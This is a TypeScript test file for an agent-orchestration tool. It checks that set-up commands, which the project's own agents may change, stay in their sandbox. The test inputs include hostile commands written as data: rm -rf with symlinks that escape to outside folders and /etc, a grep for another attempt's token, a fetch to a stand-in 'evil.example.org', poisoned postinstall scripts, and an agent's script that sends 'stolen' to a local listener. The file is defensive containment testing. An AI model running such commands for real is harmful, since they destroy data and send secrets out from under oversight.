// Attempts that reach for other trees through set-up: by links, by install scripts, by what it leaves, by its network, and
// by making it at the same time as somebody else.
import { spawnSync } from "node:child_process";
import { once } from "node:events";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { findSandbox } from "../../src/host/box/box.ts";
import type { Repository } from "../../src/host/git/repository.ts";
import { checkOut } from "../../src/host/git/workspace.ts";
import { keyOf } from "../../src/work/set-up/key.ts";
import { make } from "../../src/work/set-up/make.ts";
import { adopt, provide, type SetUp } from "../../src/work/set-up/provide.ts";
import { pruneCache } from "../../src/work/set-up/prune.ts";
import { chain } from "../e2e/plan-files.ts";
import { Execution, hasBox } from "../execute/rig.ts";
import { fresh, good, open, put, repositoryWith, sh } from "../host/git-rig.ts";

const signal = new AbortController().signal;
const limits = { wallMs: 60_000, silenceMs: 60_000, outputBytes: 1e6, lineBytes: 1e5 };
const bench = { sandbox: null, readable: [], env: [], limits };

/** A project's `.heddle`, with the folder of another attempt in it. */
function heddleDir(): string {
  const folder = join(fresh("project"), ".heddle");
  mkdirSync(join(folder, "attempts/plan-1/T002-1"), { recursive: true });
  writeFileSync(join(folder, "attempts/plan-1/T002-1/token"), "TOKEN");
  return folder;
}

function setUpIn(heddle: string, commands: readonly string[], more: Partial<SetUp> = {}): SetUp {
  return {
    ...{ commands, reads: undefined, bench, network: true, cache: join(heddle, "setup"), attempt: null },
    ...more,
  };
}

async function checkedOut(repository: Repository, tree: string) {
  const room = fresh("room");
  const place = { folder: join(room, "tree"), index: join(room, "index"), tree };
  good(await checkOut(repository, place));
  return { repository, ...place };
}

/** The tree after a change of the person's or an agent's. */
function changed(target: string, work: () => void): string {
  work();
  sh(target, "add", "--all", "--force");
  sh(target, "commit", "--quiet", "--allow-empty", "--message", "changed");
  return sh(target, "rev-parse", "HEAD").trim();
}

const headOf = (target: string) => sh(target, "rev-parse", "HEAD").trim();

/** Files below a folder that hold a text; links are not followed. */
function filesWith(text: string, folder: string): string[] {
  const { stdout } = spawnSync("grep", ["-rls", "--", text, folder], { encoding: "utf8" });
  return stdout.split("\n").filter((line) => line !== "");
}

describe("set-up's copy of a tree", () => {
  it("G9 X22 a link that stays inside the repository leads nowhere else in it", async () => {
    const target = repositoryWith({ "a/b/c/x.txt": "x" });
    symlinkSync("../../..", join(target, "a/b/c/up"));
    symlinkSync("../../../..", join(target, "a/b/c/out"));
    symlinkSync("out/..", join(target, "a/b/c/further"));
    symlinkSync("/etc", join(target, "a/b/c/etc"));
    const tree = changed(target, () => {});
    const heddle = heddleDir();
    const repository = await open(join(target, "a/b/c"));
    const show =
      "ls -d up out further etc 2>/dev/null > made; ls -R out/ up/ further/ 2>/dev/null | grep token; true";
    const checkout = await checkedOut(repository, tree);
    const laid = good(await provide(setUpIn(heddle, [show]), checkout, signal));
    expect(laid).toEqual(["a/b/c/made"]);
    expect(readFileSync(join(checkout.folder, "a/b/c/made"), "utf8")).toBe("up\n");
    expect(readFileSync(join(heddle, "attempts/plan-1/T002-1/token"), "utf8")).toBe("TOKEN");
    expect(filesWith("TOKEN", join(heddle, "setup"))).toEqual([]);
  });

  it("G9 X22 links that set-up itself makes are neither followed nor laid over anything", async () => {
    const target = repositoryWith({ "src/a.txt": "a", "docs/b.txt": "b" });
    const outside = fresh("outside");
    put(outside, { "person.txt": "the person's own", "a.txt": "other" });
    const evil = [
      `rm -rf src && ln -s ${outside} src`,
      `mkdir deps && ln -s ${outside} deps/all`,
      `ln -s ${outside} docs/more`,
      "rm docs/b.txt && mkdir docs/b.txt && echo x > docs/b.txt/x",
    ];
    const heddle = heddleDir();
    const repository = await open(target);
    const checkout = await checkedOut(repository, headOf(target));
    good(await provide(setUpIn(heddle, evil), checkout, signal));
    const again = await checkedOut(repository, headOf(target));
    good(await provide(setUpIn(heddle, evil), again, signal));
    for (const { folder } of [checkout, again]) {
      expect(lstatSync(join(folder, "src")).isDirectory()).toBe(true);
      expect(readFileSync(join(folder, "src/a.txt"), "utf8")).toBe("a");
      expect(readFileSync(join(folder, "docs/b.txt"), "utf8")).toBe("b");
      expect(lstatSync(join(folder, "deps/all")).isSymbolicLink()).toBe(true);
    }
    expect(readFileSync(join(outside, "person.txt"), "utf8")).toBe("the person's own");
    expect(filesWith("the person's own", join(heddle, "setup"))).toEqual([]);
  });
});

describe("what set-up made", () => {
  it("G4 X22 is never laid over what the tree has, nor through a link of the tree's", async () => {
    const target = repositoryWith({ "x.txt": "x", "pkg/y.txt": "y" });
    const base = headOf(target);
    const heddle = heddleDir();
    const repository = await open(target);
    const commands = [
      "mkdir gen && echo made > gen/a.txt && echo made > gen/b.txt && mkdir gen/c && echo made > gen/c/d.txt && echo made > pkg/made.txt",
    ];
    const setUp = setUpIn(heddle, commands, { reads: [] });
    good(await provide(setUp, await checkedOut(repository, base), signal));
    const folder = changed(target, () => put(target, { "gen/a.txt": "mine", "gen/c": "mine" }));
    const one = await checkedOut(repository, folder);
    expect(good(await provide(setUp, one, signal))).toEqual(["gen/b.txt", "pkg/made.txt"]);
    expect(readFileSync(join(one.folder, "gen/a.txt"), "utf8")).toBe("mine");
    expect(readFileSync(join(one.folder, "gen/c"), "utf8")).toBe("mine");
    const link = changed(target, () => {
      rmSync(join(target, "gen"), { recursive: true });
      put(target, { "other/a.txt": "mine" });
      rmSync(join(target, "pkg"), { recursive: true });
      for (const name of ["gen", "pkg"]) symlinkSync("other", join(target, name));
    });
    const two = await checkedOut(repository, link);
    expect(good(await provide(setUp, two, signal))).toEqual([]);
    expect(readdirSync(join(two.folder, "other"))).toEqual(["a.txt"]);
  });

  it("G4 X22 is an attempt's own while its tree is not merged, and everybody's then", async () => {
    const target = repositoryWith({ "setup.sh": "echo clean > mark\n" });
    const base = headOf(target);
    const heddle = heddleDir();
    const repository = await open(target);
    const own = (n: number) => join(heddle, `attempts/plan-1/T001-${n}/setups`);
    const setUp = (n: number) =>
      setUpIn(heddle, ["sh setup.sh"], { attempt: { trusted: [base], network: true, folder: own(n) } });
    const evil = changed(target, () => put(target, { "setup.sh": "echo poisoned > mark\n" }));
    const first = await checkedOut(repository, evil);
    good(await provide(setUp(1), first, signal));
    expect(readFileSync(join(first.folder, "mark"), "utf8")).toBe("poisoned\n");
    expect(existsSync(join(heddle, "setup"))).toBe(false);
    const next = await checkedOut(repository, base);
    good(await provide(setUp(2), next, signal));
    expect(readFileSync(join(next.folder, "mark"), "utf8")).toBe("clean\n");
    expect(readdirSync(join(heddle, "setup"))).toHaveLength(1);
    await adopt(setUp(1), { repository, tree: evil });
    expect(readdirSync(join(heddle, "setup"))).toHaveLength(2);
  });

  it("X22 made by two at once is there once, and whole; what a killed one left goes", async () => {
    const target = repositoryWith({ "x.txt": "x" });
    const heddle = heddleDir();
    const repository = await open(target);
    const kept = join(heddle, "setup", "0".repeat(32));
    mkdirSync(join(heddle, "setup"));
    mkdirSync(`${kept}.999999999-abcdef.new/tree`, { recursive: true });
    const commands = ["mkdir deps; sleep 0.3; echo made > deps/x"];
    const making = { commands, bench, network: true, repository, tree: headOf(target), kept };
    const ends = await Promise.all([make(making, signal), make(making, signal), make(making, signal)]);
    expect(ends).toEqual([undefined, undefined, undefined]);
    await pruneCache(join(heddle, "setup"), kept);
    expect(readdirSync(join(heddle, "setup"))).toEqual(["0".repeat(32)]);
    expect(readFileSync(join(kept, "files/deps/x"), "utf8")).toBe("made\n");
  });
});

const npm = (more: object) => JSON.stringify({ name: "app", version: "1.0.0", ...more });
const lock =
  '{"name":"app","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"app","version":"1.0.0"}}}';

describe("the key of a set-up", () => {
  const cases: readonly (readonly [
    string,
    Record<string, string>,
    Record<string, string>,
    "same" | "other",
  ])[] = [
    ["plain manifests, and code changes", {}, { "src/a.js": "2" }, "same"],
    ["a script that set-up does not run", {}, { "package.json": npm({ scripts: { test: "x" } }) }, "same"],
    ["another dependency", {}, { "package.json": npm({ dependencies: { a: "1" } }) }, "other"],
    ["another lock", {}, { "package-lock.json": lock.replace("1.0.0", "1.0.1") }, "other"],
    ["an install script comes", {}, { "package.json": npm({ scripts: { postinstall: "x" } }) }, "other"],
    [
      "what an install script runs",
      { "package.json": npm({ scripts: { prepare: "node a" } }) },
      { "a.js": "2" },
      "other",
    ],
    ["settings that name a program", { ".npmrc": "script-shell=./sh\n" }, { sh: "2" }, "other"],
    [
      "settings that name none",
      { ".npmrc": "fund=false\nregistry=https://r.example\n" },
      { sh: "2" },
      "same",
    ],
    ["a gyp file", { "binding.gyp": "{}" }, { "a.c": "2" }, "other"],
    [
      "a package of the tree's own",
      { "package.json": npm({ dependencies: { b: "file:b" } }) },
      { "b/x.js": "2" },
      "other",
    ],
    [
      "an install script in a workspace",
      { "packages/a/package.json": npm({ scripts: { install: "x" } }) },
      { x: "2" },
      "other",
    ],
    [
      "a manifest that is a link",
      { "real.json": npm({}) },
      { "real.json": npm({ dependencies: { a: "2" } }) },
      "other",
    ],
    [
      "requirements by name",
      { "requirements.txt": "requests==2.0 ; python_version > '3'\n# x\n" },
      { "a.py": "2" },
      "same",
    ],
    ["requirements of the tree", { "requirements.txt": "-e .\n" }, { "a.py": "2" }, "other"],
    ["requirements of another file", { "requirements.txt": "-r more/x.in\n" }, { "more/x.in": "2" }, "other"],
    [
      "a project that builds itself",
      { "uv.lock": "x", "pyproject.toml": '[build-system]\nbackend-path = ["."]\n' },
      { "a.py": "2" },
      "other",
    ],
    [
      "a project with a program to install it",
      { "pyproject.toml": "[project]", "setup.py": "x" },
      { "a.py": "2" },
      "other",
    ],
    [
      "a project that is installed in place",
      { "uv.lock": "x", "pyproject.toml": "[project]" },
      { "a.py": "2" },
      "same",
    ],
    [
      "a Gemfile that reads files",
      { "Gemfile.lock": "x", Gemfile: "eval File.read('x')\n" },
      { x: "2" },
      "other",
    ],
    ["a hook of pnpm", { "pnpm-lock.yaml": "x", ".pnpmfile.cjs": "x" }, { "a.js": "2" }, "other"],
    ["a build that fetches", { "gradle.lockfile": "x" }, { "build.gradle": "2" }, "other"],
  ];

  it.each(cases)("G4 X22 covers what is read: %s", async (name, before, after, expected) => {
    const files = { "package.json": npm({}), "package-lock.json": lock, "src/a.js": "1", ...before };
    const target = repositoryWith(files);
    if (name.includes("link")) {
      rmSync(join(target, "package.json"));
      symlinkSync("real.json", join(target, "package.json"));
    }
    const base = changed(target, () => {});
    const next = changed(target, () => put(target, after));
    const repository = await open(target);
    const key = (tree: string) => keyOf({ commands: undefined, reads: undefined, repository, tree });
    const [one, two] = [await key(base), await key(next)];
    expect(one).not.toBeNull();
    expect(one === two ? "same" : "other").toBe(expected);
  });

  it("X22 commands of the person's own may read every file, unless the person says which", async () => {
    const target = repositoryWith({ Makefile: "deps:\n", "a.txt": "1" });
    const base = headOf(target);
    const next = changed(target, () => put(target, { "a.txt": "2" }));
    const made = changed(target, () => put(target, { Makefile: "deps: x\n" }));
    const repository = await open(target);
    const key = (tree: string, reads?: string[]) =>
      keyOf({ commands: ["make deps"], reads, repository, tree });
    expect(await key(base)).not.toBe(await key(next));
    expect(await key(base, ["Makefile"])).toBe(await key(next, ["Makefile"]));
    expect(await key(base, ["Makefile"])).not.toBe(await key(made, ["Makefile"]));
  });
});

/** The target gets a package with an install script. */
function packageIn(project: Execution, script: string): void {
  put(project.path("app"), {
    "package.json": npm({ scripts: { postinstall: "sh scripts/x.sh" } }),
    "package-lock.json": lock,
    "scripts/x.sh": script,
    ".gitignore": "node_modules\n",
  });
  project.git("add", ".");
  project.git("-c", "user.name=Ada", "-c", "user.email=ada@example.org", "commit", "-qm", "Package");
}

const clean = "mkdir -p node_modules && echo clean > node_modules/mark\n";
const poisoned = "mkdir -p node_modules && echo poisoned > node_modules/mark\n";

describe.runIf(hasBox)("an attempt", () => {
  it("U11 G9 opens no host by naming it in what set-up reads, and a person is told the line that would", async () => {
    const sandbox = await findSandbox();
    if (!sandbox.ok) throw new Error("bug: there is a box");
    const [heddle, target] = [
      heddleDir(),
      repositoryWith({ ".npmrc": "registry=https://npm.example.org/\n" }),
    ];
    const asks = ["npm.example.org", "evil.example.org"]
      .map((host) => `fetch("https://${host}/x")`)
      .join(", ");
    const commands = [`'${process.execPath}' -e 'Promise.allSettled([${asks}]).then(() => process.exit(3))'`];
    const set = { network: ["registries"], bench: { ...bench, sandbox } };
    const repository = await open(target);
    const trusted = [headOf(target)];
    const tree = changed(target, () => put(target, { ".npmrc": "registry=https://evil.example.org/\n" }));
    const attempt = { trusted, network: true, folder: join(heddle, "own") } as const;
    const own = await provide(
      setUpIn(heddle, commands, { ...set, attempt }),
      await checkedOut(repository, tree),
      signal,
    );
    expect(own).toMatchObject({
      hint: expect.stringContaining('"setup": ["registries","evil.example.org"]'),
    });
    expect(own).toMatchObject({ message: expect.not.stringContaining("closed to npm.example.org") });
    // Once it is merged, it is what the project says.
    const merged = await provide(setUpIn(heddle, commands, set), await checkedOut(repository, tree), signal);
    expect(merged).toMatchObject({
      hint: expect.stringContaining('"setup": ["registries","npm.example.org"]'),
    });
  });

  it("G4 X22 that is refused leaves nothing in the checks of the next", async () => {
    const more = () => ({
      acceptance_criteria: [
        { criterion: "the file", verification: "grep -q good src/T001.txt" },
        { criterion: "set-up", verification: "grep -q clean node_modules/mark" },
      ],
    });
    const lockToo = `put("package-lock.json", ${JSON.stringify(lock.replaceAll("1.0.0", "1.0.1"))});`;
    const versionToo = `put("package.json", fs.readFileSync("package.json", "utf8").replace("1.0.0", "1.0.1"));`;
    const project = await Execution.ready({ tasks: 1, more });
    project.agent({
      T001: [
        `${lockToo}${versionToo} put("scripts/x.sh", ${JSON.stringify(poisoned)}); put("src/T001.txt", "bad"); propose()`,
        `${lockToo}${versionToo} put("src/T001.txt", "good"); propose()`,
      ],
    });
    packageIn(project, clean);
    project.config({ scope: "any" });
    const ran = await project.execute();
    expect(ran.code, ran.out).toBe(0);
    expect(project.merged()).toEqual(["T001"]);
    expect((await project.facts("attempt-failed")).length).toBe(1);
  });

  it("X22 G9 whose agent has no network has none in a set-up that it changed, and is told what would give it one", async () => {
    const words: string[] = [];
    const server = createServer((socket) => {
      socket.on("data", (data) => words.push(data.toString("utf8").trim()));
      socket.on("error", () => {});
    }).listen(0, "127.0.0.1");
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const call = (word: string) =>
      `${clean}node -e 'const s = require("net").connect(${port}, "127.0.0.1", () => { s.end("${word}"); }); s.on("error", () => process.exit(3))'\n`;
    try {
      const project = await Execution.ready({ tasks: 2, after: chain });
      project.agent({ T001: [`put("scripts/x.sh", ${JSON.stringify(call("stolen"))}); good()`] });
      packageIn(project, call("person"));
      const agents = { writer: { command: ["./agent.cjs"], network: false } };
      project.config({ scope: "any", attempts: 1, agents, network: { setup: true } });
      const ran = await project.heddle("execute", "--batch", "--agent", "writer");
      expect(ran.out).toContain('"network": { "changedSetup": true }');
      expect(words).toContain("person");
      expect(words).not.toContain("stolen");
      project.config({ scope: "any", attempts: 2, agents, network: { setup: true, changedSetup: true } });
      await project.must("state", "retry-task", "T001");
      await project.heddle("execute", "--batch", "--agent", "writer");
      expect(words).toContain("stolen");
      expect(project.merged()).toEqual(["T001", "T002"]);
    } finally {
      server.close();
    }
  });
});
